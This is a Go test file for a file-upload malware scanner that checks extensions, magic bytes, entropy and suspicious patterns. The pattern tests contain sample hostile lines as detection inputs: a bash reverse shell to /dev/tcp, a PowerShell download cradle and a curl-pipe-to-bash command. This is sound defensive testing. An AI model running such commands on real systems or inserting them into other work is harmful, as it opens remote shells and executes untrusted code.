package scan

import (
	"bytes"
	"crypto/rand"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

// writeTemp writes content to a file with the given name inside a
// fresh temp directory and returns its path.
func writeTemp(t *testing.T, name string, content []byte) string {
	t.Helper()
	path := filepath.Join(t.TempDir(), name)
	require.NoError(t, os.WriteFile(path, content, 0600))
	return path
}

// --- CheckExtension tests ---

func TestCheckExtension(t *testing.T) {
	tests := []struct {
		name     string
		filename string
		safe     bool
	}{
		{"exe", "payload.exe", false},
		{"exe uppercase", "PAYLOAD.EXE", false},
		{"mixed case", "payload.ExE", false},
		{"shell script", "install.sh", false},
		{"office macro", "report.xlsm", false},
		{"powershell", "setup.ps1", false},
		{"plain text", "notes.txt", true},
		{"pdf", "document.pdf", true},
		{"no extension", "README", true},
	}

	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			// Extension check looks only at the name; content is irrelevant.
			path := writeTemp(t, tc.filename, []byte("harmless content"))
			v := CheckExtension(path)
			assert.Equal(t, tc.safe, v.Safe)
			if !tc.safe {
				assert.Contains(t, v.Reason, "extension")
			}
		})
	}
}

func TestScan_RejectsExeRegardlessOfContent(t *testing.T) {
	path := writeTemp(t, "innocent.exe", []byte("just text, honest"))
	v := Scan(path)
	assert.False(t, v.Safe)
	assert.Contains(t, v.Reason, "extension")
}

// --- CheckSignature tests ---

func TestCheckSignature(t *testing.T) {
	tests := []struct {
		name    string
		content []byte
		safe    bool
	}{
		{"MZ header", []byte("MZ\x90\x00 rest of a PE file"), false},
		{"ELF header", []byte{0x7f, 'E', 'L', 'F', 0x02, 0x01}, false},
		{"shebang", []byte("#!/bin/sh\necho hi\n"), false},
		{"bare shebang", []byte("#!x"), false},
		{"zip archive", []byte("PK\x03\x04content"), false},
		{"OLE2 document", []byte{0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1}, false},
		{"plain text", []byte("ordinary file content"), true},
		{"empty file", nil, true},
		{"MZ not at offset zero", []byte(" MZ"), true},
	}

	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			v := CheckSignature(writeTemp(t, "f.bin", tc.content))
			assert.Equal(t, tc.safe, v.Safe)
			if !tc.safe {
				assert.Contains(t, v.Reason, "signature")
			}
		})
	}
}

func TestCheckSignature_UnreadableFailsOpen(t *testing.T) {
	v := CheckSignature(filepath.Join(t.TempDir(), "does-not-exist"))
	assert.True(t, v.Safe)
}

// --- CheckEntropy tests ---

func TestCheckEntropy_RandomBytesRejected(t *testing.T) {
	content := make([]byte, EntropySampleSize)
	_, err := rand.Read(content)
	require.NoError(t, err)
	// Pin the first byte so no file signature can match by chance;
	// the entropy of the sample is unaffected.
	content[0] = 0x02

	path := writeTemp(t, "noise.bin", content)
	v := CheckEntropy(path)
	assert.False(t, v.Safe)
	assert.Contains(t, v.Reason, "entropy")

	// The full pipeline rejects it for entropy too.
	pv := Scan(path)
	assert.False(t, pv.Safe)
	assert.Contains(t, pv.Reason, "entropy")
}

func TestCheckEntropy_SmallFileExempt(t *testing.T) {
	content := make([]byte, EntropyMinSize-1)
	_, err := rand.Read(content)
	require.NoError(t, err)

	v := CheckEntropy(writeTemp(t, "small.bin", content))
	assert.True(t, v.Safe)
}

func TestCheckEntropy_NaturalTextPasses(t *testing.T) {
	text := strings.Repeat("The quick brown fox jumps over the lazy dog. ", 2000)
	v := CheckEntropy(writeTemp(t, "prose.txt", []byte(text)))
	assert.True(t, v.Safe)
}

func TestCheckEntropy_UnreadableFailsOpen(t *testing.T) {
	v := CheckEntropy(filepath.Join(t.TempDir(), "does-not-exist"))
	assert.True(t, v.Safe)
}

func TestShannonEntropy(t *testing.T) {
	assert.Equal(t, 0.0, shannonEntropy(nil))
	assert.Equal(t, 0.0, shannonEntropy(bytes.Repeat([]byte{0xaa}, 1024)))

	// All 256 byte values equally frequent: exactly 8 bits per byte.
	uniform := make([]byte, 256*16)
	for i := range uniform {
		uniform[i] = byte(i % 256)
	}
	assert.InDelta(t, 8.0, shannonEntropy(uniform), 0.0001)
}

// --- CheckPatterns tests ---

func TestCheckPatterns(t *testing.T) {
	tests := []struct {
		name    string
		content string
		safe    bool
	}{
		{"download cradle", "IEX(New-Object Net.WebClient).DownloadString('http://x')", false},
		{"case insensitive", "iex(new-object net.webclient)", false},
		{"reverse shell", "bash -i >& /dev/tcp/1.2.3.4/4444 0>&1", false},
		{"pipe to bash", "curl http://x.sh | bash", false},
		{"js obfuscation", "var s = String.fromCharCode(104,105)", false},
		{"plain prose", "A perfectly ordinary paragraph of text.", true},
		{"empty", "", true},
	}

	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			v := CheckPatterns(writeTemp(t, "f.txt", []byte(tc.content)))
			assert.Equal(t, tc.safe, v.Safe)
			if !tc.safe {
				assert.Contains(t, v.Reason, "pattern")
			}
		})
	}
}

func TestCheckPatterns_OversizedExempt(t *testing.T) {
	// A file over the scan ceiling is exempt even when it contains a
	// suspicious fragment. Flagging the fail-open behavior explicitly:
	// tightening it would change accepted behavior.
	content := make([]byte, MaxPatternScanSize+1)
	copy(content, "Invoke-WebRequest http://evil")

	v := CheckPatterns(writeTemp(t, "big.txt", content))
	assert.True(t, v.Safe)
}

func TestCheckPatterns_UnreadableFailsOpen(t *testing.T) {
	v := CheckPatterns(filepath.Join(t.TempDir(), "does-not-exist"))
	assert.True(t, v.Safe)
}

// --- Pipeline tests ---

func TestScan_CleanFilePasses(t *testing.T) {
	text := strings.Repeat("Natural language content, repeated for bulk. ", 100)
	v := Scan(writeTemp(t, "notes.txt", []byte(text)))
	assert.True(t, v.Safe)
	assert.Empty(t, v.Reason)
}

func TestScan_FirstFailureWins(t *testing.T) {
	// A .exe file that would also fail the signature check reports
	// the extension reason: checks run in fixed order.
	path := writeTemp(t, "tool.exe", []byte("MZ\x90\x00"))
	v := Scan(path)
	assert.False(t, v.Safe)
	assert.Contains(t, v.Reason, "extension")
}

func TestScan_MissingFilePassesAllChecks(t *testing.T) {
	// Every content check fails open, and the extension check sees a
	// harmless name, so a vanished file scans clean. The upload flow
	// validates existence before scanning.
	v := Scan(filepath.Join(t.TempDir(), "gone.txt"))
	assert.True(t, v.Safe)
}

func TestChecks_OrderAndNames(t *testing.T) {
	checks := Checks()
	require.Len(t, checks, 4)
	assert.Equal(t, "extension", checks[0].Name)
	assert.Equal(t, "signature", checks[1].Name)
	assert.Equal(t, "entropy", checks[2].Name)
	assert.Equal(t, "patterns", checks[3].Name)
}

func TestScan_DoesNotMutateFile(t *testing.T) {
	content := []byte("MZ executable-looking content")
	path := writeTemp(t, "f.bin", content)

	_ = Scan(path)

	after, err := os.ReadFile(path)
	require.NoError(t, err)
	assert.Equal(t, content, after)
}
